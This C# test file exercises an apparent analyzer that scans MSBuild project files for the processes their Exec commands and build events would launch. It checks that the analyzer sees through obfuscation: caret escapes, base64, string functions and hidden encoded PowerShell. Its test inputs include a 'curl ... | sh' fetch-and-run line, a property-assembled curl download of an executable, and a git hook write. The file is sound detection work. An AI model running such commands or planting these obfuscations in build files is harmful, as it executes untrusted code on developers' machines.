using System.Text;
using Assay.Model;

namespace Assay.Text.Tests;

public sealed class BuildCommandTests
{
    [Theory]
    [InlineData("a.exe & b && c | d", "a b c d|c")]
    [InlineData("\"$(MSBuildThisFileDirectory)..\\tools\\X.exe\" --y", "x")]
    [InlineData("c^url https://host.example/a ^| b", "curl")]
    [InlineData("echo \"a & b\" & calc", "calc")]
    [InlineData("cmd /c \"a & b\"", "cmd a b")]
    [InlineData("cmd /d /s /ccalc", "cmd calc")]
    [InlineData("sh -c 'a; b | c'", "sh a b c|b")]
    [InlineData("/bin/bash -lc \"a && b\"", "bash a b")]
    [InlineData("curl -s https://host.example/i.sh | sh", "curl sh|curl")]
    [InlineData("if not exist \"x y\" mkdir x", "mkdir")]
    [InlineData("if \"$(A)\"==\"b\" (start \"\" /b x.exe)", "x")]
    [InlineData("CC=\"a b\" DIR=x make all", "make")]
    [InlineData("@call x.cmd\r\ny 2>&1 >nul", "x.cmd y")]
    [InlineData("$(UnknownTool) --version", "")]
    [InlineData("$(ComSpec) /c calc", "cmd calc")]
    [InlineData("msbuild /p:A=1;B=2", "msbuild")]
    [InlineData("powershell -Command Get-Item a; Get-Item b", "powershell")]
    [InlineData("a $(X) ) b", "a")]
    public void A_command_line_is_one_process_per_command(string command, string expected)
    {
        var processes = BuildFileTests.All(Exec(command).Facts, FactKind.Process).Select(fact => fact.Arguments?["pipe"] is { } pipe ? $"{fact.Value}|{pipe}" : fact.Value);

        Assert.Equal(expected, string.Join(' ', processes));
    }

    [Fact]
    public void A_command_put_together_from_properties_is_folded()
    {
        var facts = BuildFileTests.Analyze("""
            <Project>
              <PropertyGroup><A>%63url</A><B Condition="'$(B)' == ''">https://host</B></PropertyGroup>
              <PropertyGroup Condition="false"><B>x</B></PropertyGroup>
              <Target Name="T"><PropertyGroup><C>$(A) $(B).example/a</C></PropertyGroup><Exec Command="$(C) -o a.exe" /></Target>
            </Project>
            """).Facts;

        var process = Assert.Single(BuildFileTests.All(facts, FactKind.Process));
        Assert.Equal(("curl", Derivation.Folded, "T"), (process.Value, process.Derivation, process.Place!.Type));
        Assert.Equal(["https://host.example/a", "-o", "a.exe"], process.Arguments!.Items.ToArray().Select(argument => argument.Value));
    }

    [Theory]
    [InlineData("$([System.Text.Encoding]::UTF8.GetString($([System.Convert]::FromBase64String('Y2FsYw=='))))")]
    [InlineData("$([MSBuild]::ConvertFromBase64('Y2FsYw=='))")]
    public void A_decoded_command_is_recovered(string expression)
    {
        var process = Assert.Single(BuildFileTests.All(Exec(expression).Facts, FactKind.Process));

        Assert.Equal(("calc", Derivation.Recovered), (process.Value, process.Derivation));
    }

    [Theory]
    [InlineData("$(A.Replace('x', ''))", "calc")]
    [InlineData("$(A.Substring(1).Replace('x', '').ToUpper().ToLower())", "alc")]
    [InlineData("$([System.String]::Concat('ca', 'lc'))", "calc")]
    [InlineData("$([System.String]::Format('{1}{0}', 'lc', 'ca'))", "calc")]
    [InlineData("$(A[0])alc", "calc")]
    public void Functions_of_texts_are_computed(string expression, string program)
    {
        var facts = BuildFileTests.Analyze($"""<Project><PropertyGroup><A>caxlxc</A></PropertyGroup><Target Name="T"><Exec Command="{expression}" /></Target></Project>""").Facts;

        Assert.Equal(program, Assert.Single(BuildFileTests.All(facts, FactKind.Process)).Value);
    }

    [Fact]
    public void Every_value_that_a_command_or_library_may_have_is_stated()
    {
        var facts = BuildFileTests.Analyze("""
            <Project>
              <PropertyGroup>
                <A Condition="'$(OS)' == 'Windows_NT'">powershell -File a.ps1</A><A Condition="'$(OS)' != 'Windows_NT'">sh a.sh</A>
                <L Condition="'$(MSBuildRuntimeType)' == 'Core'">net8.0</L><L Condition="'$(MSBuildRuntimeType)' != 'Core'">net472</L>
              </PropertyGroup>
              <UsingTask TaskName="T" AssemblyFile="$(MSBuildThisFileDirectory)$(L)\t.dll" />
              <Target Name="T"><Exec Command="$(A) -x" /></Target>
            </Project>
            """).Facts;

        Assert.Equal(["powershell", "sh"], BuildFileTests.All(facts, FactKind.Process).Select(fact => fact.Value));
        Assert.Equal(["$(MSBuildThisFileDirectory)$(L)/t.dll", "$(MSBuildThisFileDirectory)net8.0/t.dll", "$(MSBuildThisFileDirectory)net472/t.dll", "a.ps1", "a.sh"], BuildFileTests.All(facts, FactKind.Include).Select(fact => fact.Value));
    }

    [Fact]
    public void A_property_that_something_else_sets_is_not_guessed()
    {
        var facts = BuildFileTests.Analyze("""
            <Project>
              <PropertyGroup><A>a</A></PropertyGroup>
              <Target Name="T"><ReadLinesFromFile File="x"><Output TaskParameter="Lines" PropertyName="A" /></ReadLinesFromFile><Exec Command="$(A) c" /></Target>
            </Project>
            """).Facts;

        Assert.Empty(BuildFileTests.All(facts, FactKind.Process));
        Assert.Equal("$(A) c", BuildFileTests.Single(facts, FactKind.Task, "Exec").Arguments!["Command"]);
    }

    [Fact]
    public void The_scripts_of_PowerShell_are_kept_and_those_that_were_encoded_are_recovered()
    {
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("Write-Output 1"));
        var (derived, facts) = Exec($"powershell -w hidden -enc {encoded} &amp; pwsh -c &quot;Get-Date; Get-Host&quot; &amp; powershell -File $(MSBuildThisFileDirectory)a.ps1");

        Assert.Equal([("Exec#1.ps1", "Write-Output 1", true), ("Exec#2.ps1", "Get-Date; Get-Host", false)], derived.Select(code => (code.Name, Encoding.UTF8.GetString(code.Bytes.Span), code.Recovered)));
        Assert.All(derived, code => Assert.Equal("T", facts.Places[code.HostPlace].Type));
        Assert.Equal("true", BuildFileTests.All(facts, FactKind.Process)[0].Arguments!["hidden"]);
        BuildFileTests.Single(facts, FactKind.Anomaly, "encoded-layer");
        Assert.Equal("run", BuildFileTests.Single(facts, FactKind.Include, "$(MSBuildThisFileDirectory)a.ps1").Arguments!["how"]);
    }

    [Theory]
    [InlineData("node &quot;$(MSBuildThisFileDirectory)x.js&quot; a.txt", "$(MSBuildThisFileDirectory)x.js")]
    [InlineData("$(MSBuildThisFileDirectory)..\\tools\\x", "$(MSBuildThisFileDirectory)../tools/x")]
    [InlineData("rundll32 $(X)y.dll,Entry", "$(X)y.dll")]
    [InlineData("signtool sign y.exe", "")]
    public void Files_that_a_command_runs_are_included(string command, string expected) =>
        Assert.Equal(expected, string.Join(' ', BuildFileTests.All(Exec(command).Facts, FactKind.Include).Select(fact => fact.Value)));

    [Fact]
    public void A_redirection_writes_a_file_and_the_working_directory_counts()
    {
        var facts = BuildFileTests.Analyze("""<Project><Target Name="T"><Exec Command="echo a &gt; pre-commit &amp;&amp; node x.js &gt;&gt; &quot;b c&quot;" WorkingDirectory="$(SolutionDir).git\hooks" /></Target></Project>""").Facts;

        Assert.Equal(["$(SolutionDir).git/hooks/pre-commit", "$(SolutionDir).git/hooks/b c"], BuildFileTests.All(facts, FactKind.Path).Select(fact => fact.Value));
        Assert.Equal("$(SolutionDir).git/hooks/x.js", Assert.Single(BuildFileTests.All(facts, FactKind.Include)).Value);
    }

    [Fact]
    public void Commands_before_and_after_the_build_run_too()
    {
        var facts = BuildFileTests.Analyze("<Project><PropertyGroup><PostBuildEvent>xcopy a b\ncalc</PostBuildEvent></PropertyGroup></Project>").Facts;

        Assert.Equal(["xcopy", "calc"], BuildFileTests.All(facts, FactKind.Process).Select(fact => fact.Value));
    }

    private static (IReadOnlyList<DerivedArtifact> Derived, FileFacts Facts) Exec(string command) =>
        BuildFileTests.Analyze($"""<Project><Target Name="T"><Exec Command="{Escape(command)}" /></Target></Project>""");

    private static string Escape(string command) => command.Contains("&quot;", StringComparison.Ordinal) || command.Contains("&amp;", StringComparison.Ordinal)
        ? command
        : command.Replace("&", "&amp;", StringComparison.Ordinal).Replace("\"", "&quot;", StringComparison.Ordinal).Replace(">", "&gt;", StringComparison.Ordinal).Replace("\r", "&#13;", StringComparison.Ordinal).Replace("\n", "&#10;", StringComparison.Ordinal);
}
